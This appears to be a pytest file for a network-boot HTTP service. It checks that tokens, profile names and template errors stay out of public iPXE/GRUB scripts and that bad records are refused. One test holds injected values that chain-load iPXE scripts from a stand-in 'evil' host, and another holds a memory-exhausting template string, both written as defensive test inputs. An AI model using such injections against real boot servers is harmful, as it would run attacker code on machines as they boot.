"""Issue 13 F1, F2 and F9 through the HTTP service: what a boot script may carry, and what a
failing or heavy cmdline template does to the service (the boot plan: shared/bootplan.py)."""

from __future__ import annotations

import pytest
from httpkit import MAC, SECRET, make_service

from services.http.access import host_token
from shared.schema import KINDS
from shared.store import RecordInvalid

PROFILE = {"kernel": "debian/linux", "initrd": "debian/initrd.gz", "install": "preseed"}


async def setup(inv, cmdline: str) -> None:
    await inv.put("profile", "debian12", cmdline=cmdline, **PROFILE)
    await inv.put("host", MAC, hostname="web1", ip="127.0.0.1", profile="debian12")


async def test_f1_cmdline_cannot_leak_the_token_into_the_public_boot_script(inventory, http):
    await setup(inventory, "console=ttyS0 bootyard.done={{ done_url }}")
    token = host_token(SECRET, MAC)
    resp = await http.get(f"/boot/ipxe?mac={MAC}")  # no authentication needed for this
    body = await resp.text()
    assert token not in body and "done" not in body
    assert resp.status == 200 and "cannot boot" in body  # a script that says so and stops
    events = await inventory.events_of("http.render_error", MAC)
    assert "http.token_in_scripts" in events[-1].fields["reason"]


async def test_f1_token_in_scripts_opt_in_still_works(inventory, aiohttp_client):
    await setup(inventory, "console=ttyS0 bootyard.done={{ done_url }}")
    opted = await aiohttp_client(make_service(inventory, token_in_scripts=True).app())
    text = await (await opted.get(f"/boot/ipxe?mac={MAC}")).text()
    assert f"bootyard.done=http://10.0.0.1:8080/install/{MAC}/done?token=" \
           f"{host_token(SECRET, MAC)}" in text


async def test_f9_public_answer_does_not_repeat_jinja_or_the_profile(inventory, http):
    await setup(inventory, "console=ttyS0 {{ vars.nothere }}")
    for kind, path in (("ipxe", f"/boot/ipxe?mac={MAC}"), ("grub", f"/boot/grub.cfg?mac={MAC}")):
        resp = await http.get(path)
        body = await resp.text()
        # a host that cannot boot gets a script that says why and stops (not a 500, which
        # iPXE only shows as an error number), without the profile or Jinja2's text
        assert resp.status == 200, body
        assert "nothere" not in body and "debian12" not in body
        assert "cannot boot: its kernel command line template does not render" in body
        assert body.endswith("sleep 10\nexit\n")
        assert body.startswith("#!ipxe\n") == (kind == "ipxe")
    events = await inventory.events_of("http.render_error", MAC)
    assert events[-1].fields["template"] == "profile debian12 cmdline"
    assert "nothere" in events[-1].fields["reason"]


async def test_f9_heavy_template_written_past_the_cli_is_not_rendered(inventory, http):
    await setup(inventory, "console=ttyS0")
    # redis-cli style: straight into the hash, past the write-time check
    await inventory.client.hset("bootyard:profile:debian12", "cmdline", "{{ 'a' * 20000000 }}")
    await inventory.cache.refresh()
    resp = await http.get(f"/boot/ipxe?mac={MAC}")
    body = await resp.text()
    assert len(body) < 4096 and "aaaa" not in body
    # the record is invalid on read: the service keeps the last good profile
    assert "console=ttyS0" in body


async def test_f2_refused_at_write_time_with_key_and_field(inventory):
    with pytest.raises(RecordInvalid) as err:
        await inventory.store.write(KINDS["host"], MAC, {
            "var.initiator_iqn": "iqn.2026-11.org.x:a\nchain http://evil/e.ipxe"}, mode="replace")
    assert f"bootyard:host:{MAC} var.initiator_iqn=" in str(err.value.problems[0])
    with pytest.raises(RecordInvalid) as err:
        await inventory.store.write(KINDS["profile"], "p", {
            "kernel": "http://10.0.0.1/linux || chain http://evil/x.ipxe"}, mode="replace")
    assert "bootyard:profile:p kernel=" in str(err.value.problems[0])


def _renders(text: str, result: str) -> float:
    name = f'bootyard_http_renders_total{{result="{result}",template="ipxe"}}'
    line = next(line_ for line_ in text.splitlines() if line_.startswith(name))
    return float(line.split()[-1])


async def test_f9_a_script_renders_once_per_inventory_version(inventory, http):
    await setup(inventory, "console=ttyS0 hostname={{ host.hostname }}")
    before = await (await http.get("/metrics")).text()
    for _ in range(3):
        assert (await http.get(f"/boot/ipxe?mac={MAC}")).status == 200
    after = await (await http.get("/metrics")).text()
    assert _renders(after, "ok") - _renders(before, "ok") == 1
    assert _renders(after, "cached") - _renders(before, "cached") == 2
    await inventory.put("host", MAC, hostname="web2", ip="127.0.0.1", profile="debian12")
    text = await (await http.get(f"/boot/ipxe?mac={MAC}")).text()
    assert "hostname=web2" in text  # a new inventory version renders again
